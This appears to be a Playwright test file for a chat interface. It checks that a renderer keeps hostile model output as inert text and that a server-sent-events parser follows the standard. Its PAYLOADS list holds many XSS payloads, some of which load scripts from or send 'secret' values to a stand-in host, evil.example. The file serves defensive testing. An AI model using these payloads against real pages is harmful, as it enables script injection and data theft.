"""The chat's modules in Chromium: sse.js against every way to cut a stream, render.js against hostile text."""

from __future__ import annotations

from functools import partial

import pytest
from playwright.sync_api import Page, Route

from tests.e2e.browser.conftest import html, render
from tests.support.servers.browser import Watched, ask, fake_answer, wait_for_status

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

# Hostile output of a model. Each must stay text: no such element, no request, no dialog.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<ScRiPt>alert(1)</ScRiPt>",
    "<script\x20type='text/javascript'>alert(1);</script>",
    "<script/src=data:,alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/?q=secret'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img src=x:x onerror=alert(1)>",
    "<image href=https://evil.example/x>",
    "<picture><source srcset=https://evil.example/x><img></picture>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe src=https://evil.example></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=q value=secret><button>Go</button></form>",
    "<button formaction=https://evil.example>Go</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<video src=https://evil.example/x autoplay onerror=alert(1)></video>",
    "<audio src=https://evil.example/x autoplay></audio>",
    "<video poster=https://evil.example/x></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<html><head><script>alert(1)</script></head></html>",
    "<a href='javascript:alert(1)'>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "</p></div></section><img src=x onerror=alert(1)>",
    "'\"><img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example/x)",
    "[x](/admin/logout/)",
    "[x](https://user:pass@evil.example/)",
    "[x](https:evil.example)",
    "[x](http://\u202eevil.example/)",
    '[x](https://evil.example/ "onmouseover=alert(1)")',
    "[x](https://evil.example/'onmouseover='alert(1))",
    "[<img src=x onerror=alert(1)>](https://evil.example/)",
    "![x](https://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![<img src=x onerror=alert(1)>](https://evil.example/)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<https://evil.example/<script>alert(1)</script>>",
    'https://evil.example/"onmouseover="alert(1)',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```<img src=x onerror=alert(1)>\nx\n```",
    "~~~\n<iframe src=https://evil.example>\n",
    "<think><script>alert(1)</script></think>",
    "<think><img src=https://evil.example/x>",
    '<tool_call>{"name": "<img src=x onerror=alert(1)>"}</tool_call>',
    "<tool_call><script>alert(1)</script></tool_call>",
    '<tool_call>{"__proto__": {"x": 1}, "name": "constructor"}</tool_call>',
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "# <svg onload=alert(1)>",
    "> <iframe src=https://evil.example>",
    "- <img src=x onerror=alert(1)>\n  - <script>alert(1)</script>",
    "**<img src=x onerror=alert(1)>**",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "\ufeff<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
]
# The elements of an answer, and the attributes that each may have.
ALLOWED = {
    "A": {"href", "target", "rel", "title"},
    "BLOCKQUOTE": {"dir"},
    "BR": set(),
    "BUTTON": {"type", "class", "data-label"},
    "CODE": {"dir"},
    "DEL": set(),
    "DETAILS": {"class"},
    "DIV": {"class", "dir", "tabindex"},
    "EM": set(),
    "H3": {"dir"},
    "H4": {"dir"},
    "H5": {"dir"},
    "H6": {"dir"},
    "HR": set(),
    "LI": {"class"},
    "OL": {"dir", "start"},
    "P": {"dir"},
    "PRE": {"tabindex"},
    "SPAN": {"class"},
    "STRONG": set(),
    "SUMMARY": set(),
    "TABLE": set(),
    "TBODY": set(),
    "TD": {"class"},
    "TH": {"class"},
    "THEAD": set(),
    "TR": set(),
    "UL": {"dir"},
}

FORBIDDEN = "script, img, iframe, svg, style, form, input, link, object, embed, video, audio, math, base, meta"


# --- hostile text ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("cuts", [0, 1, 3])
def test_hostile_text_makes_no_element_outside_the_vocabulary(lab: Watched, cuts: int) -> None:
    """Whole or token by token: only allowed elements and attributes, only http(s) and mailto links, no request."""
    assert len(PAYLOADS) >= 60
    for payload in PAYLOADS:
        for tag, attributes, href, rel, target in render(lab.page, payload, cuts)["nodes"]:
            assert tag in ALLOWED, (payload, tag)
            assert set(attributes) <= ALLOWED[tag], (payload, tag, attributes)
            if tag == "A":
                assert href.startswith(("http://", "https://", "mailto:")), (payload, href)
                assert (rel, target) == ("noopener noreferrer nofollow", "_blank"), payload
    lab.page.wait_for_timeout(200)  # a request or a dialog would have come
    lab.assert_quiet()


def test_hostile_text_through_the_whole_page(watched: Watched) -> None:
    """The corpus as one answer, from the wire to the screen, and once more from storage after a reload."""
    page = watched.page
    page.route("**/streams", lambda route: route.fulfill(**fake_answer("\n\n".join(PAYLOADS))))
    ask(page, "<img src=x onerror=alert(1)>")
    wait_for_status(page, "Answer complete")
    for _ in range(2):
        assert page.locator(".ss-body, .ss-question p, .ss-sources").locator(FORBIDDEN).count() == 0
        assert page.locator(".ss-question p").inner_text() == "<img src=x onerror=alert(1)>"
        page.reload()
        page.locator(".ss-turn").wait_for()


@pytest.mark.parametrize(
    ("target", "is_link"),
    [
        ("https://example.com/a?b=c#d", True),
        ("http://example.com", True),
        ("mailto:help@example.com", True),
        ("HTTPS://EXAMPLE.COM/", True),
        ("ftp://example.com/", False),
        ("tel:123", False),
        ("example.com", False),
        ("#top", False),
        ("?q", False),
    ],
)
def test_only_web_and_mail_addresses_become_links(lab: Watched, target: str, is_link: bool) -> None:
    markup = html(lab.page, f"[here]({target})")
    assert ("<a " in markup) is is_link
    assert "here" in markup


def test_a_link_that_names_another_host_shows_where_it_goes(lab: Watched) -> None:
    shown = render(lab.page, "[https://bank.example/login](https://evil.example/login)")["text"]
    assert shown == "https://bank.example/login (evil.example)"


@pytest.mark.parametrize(
    "unit", ["*a ", "**a ", "_*", "*_~~**", "[", "![a](", "`a``", "> ", "1. a\n\n", "    - x\n", "|a|\n|-|\n"]
)
def test_no_text_takes_long_to_render(lab: Watched, unit: str) -> None:
    """50 kB of the worst of each kind takes a fifth of a second, not the square of its length (minutes)."""
    milliseconds = lab.page.evaluate(
        """async (unit) => {
          const { AnswerView } = await import('/static/streamserve/answer_view.js');
          const text = unit.repeat(50000 / unit.length);
          const startedAt = performance.now();
          new AnswerView(document.createElement('div')).update(text, true);
          return performance.now() - startedAt;
        }""",
        unit,
    )
    assert milliseconds < 20_000, "the square of the length, or worse"


# --- server-sent events ----------------------------------------------------------------------------------------------

STREAMS = {
    "LF": 'event: token\nid: a-1\ndata: {"text": "é静🙂"}\n\ndata: two\n\n',
    "CR": "event: token\rid: a-1\rdata: one\r\rdata: two\r\r",
    "CRLF": "event: token\r\nid: a-1\r\ndata: one\r\n\r\ndata: two\r\n\r\n",
    "mixed": "data: a\r\ndata: b\rdata: c\n\r\ndata: d\n\n\n\ndata: e\r\r\n",
    "byte order mark": "\ufeffdata: one\n\n",
    "two marks": "\ufeff\ufeffdata: one\n\ndata: two\n\n",
    "comments and unknown fields": ": ok\n\n:\nfoo: bar\ndata: one\nnothing\n\n: keepalive\n\n",
    "no space, two spaces, no colon": "data:one\n\ndata:  two\n\ndata\n\ndata\ndata\n\n",
    "ids": "id: a-1\ndata: 1\n\ndata: 2\n\nid: b\0c\ndata: 3\n\nid\ndata: 4\n\n",
    "id without data": "id: a-9\n\ndata: one\n\nevent: lost\n\ndata: two\n\n",
    "cut off": "data: one\n\ndata: never dispatched",
    "cut off by one line end": "data: one\n\nid: a-2\ndata: never dispatched\n",
    "retry": "retry: 10\ndata: one\n\nretry: x\ndata: two\n\n",
}
PARSE = """async ([bytes, allCuts]) => {
  const { readEvents } = await import('/static/streamserve/sse.js');
  const body = (cuts) => new ReadableStream({
    start(controller) {
      let at = 0;
      for (const end of [...cuts, bytes.length]) { controller.enqueue(new Uint8Array(bytes.slice(at, end))); at = end; }
      controller.close();
    },
  });
  const results = [];
  for (const cuts of allCuts) {
    const out = [];
    for await (const event of readEvents(body(cuts))) out.push([event.type, event.data, event.id]);
    results.push(out);
  }
  return results;
}"""


def parse(page: Page, text: str, *cuts: list[int]) -> list[list[list[str]]]:
    """Return the events of `text`, once for each list of places to cut its bytes at."""
    results: list[list[list[str]]] = page.evaluate(PARSE, [list(text.encode()), list(cuts)])
    return results


@pytest.mark.parametrize("name", STREAMS)
def test_events_do_not_depend_on_where_the_bytes_are_cut(lab: Watched, name: str) -> None:
    """Cut at every byte, and into single bytes: the same events as in one piece."""
    places = list(range(1, len(STREAMS[name].encode())))
    whole, *cut = parse(lab.page, STREAMS[name], [], places, *([place] for place in places))
    assert cut == [whole] * len(cut)


@pytest.mark.parametrize(
    ("name", "events"),
    [
        ("LF", [["token", '{"text": "é静🙂"}', "a-1"], ["message", "two", "a-1"]]),
        ("mixed", [["message", "a\nb\nc", ""], ["message", "d", ""], ["message", "e", ""]]),
        ("byte order mark", [["message", "one", ""]]),
        ("two marks", [["message", "two", ""]]),
        ("comments and unknown fields", [["message", "one", ""]]),
        (
            "no space, two spaces, no colon",
            [["message", "one", ""], ["message", " two", ""], ["message", "", ""], ["message", "\n", ""]],
        ),
        ("ids", [["message", "1", "a-1"], ["message", "2", "a-1"], ["message", "3", "a-1"], ["message", "4", ""]]),
        ("id without data", [["message", "one", "a-9"], ["message", "two", "a-9"]]),
        ("cut off", [["message", "one", ""]]),
        ("cut off by one line end", [["message", "one", ""]]),
    ],
)
def test_events_are_those_of_the_standard(lab: Watched, name: str, events: list[list[str]]) -> None:
    assert parse(lab.page, STREAMS[name], []) == [events]


def _fulfil(route: Route, *, body: str) -> None:
    route.fulfill(body=body, content_type="text/event-stream")


def test_the_browsers_own_eventsource_agrees(lab: Watched) -> None:
    """Each stream through EventSource gives the same data and ids as through sse.js."""
    page = lab.page
    for name, text in STREAMS.items():
        page.route("**/reference", partial(_fulfil, body=text))
        reference = page.evaluate(
            """() => new Promise((resolve) => {
              const source = new EventSource('/reference');
              const out = [];
              const take = (event) => out.push([event.type, event.data, event.lastEventId]);
              for (const type of ['message', 'token', 'lost']) source.addEventListener(type, take);
              source.onerror = () => { source.close(); resolve(out); };
            })"""
        )
        page.unroute("**/reference")
        assert parse(page, text, []) == [reference], name
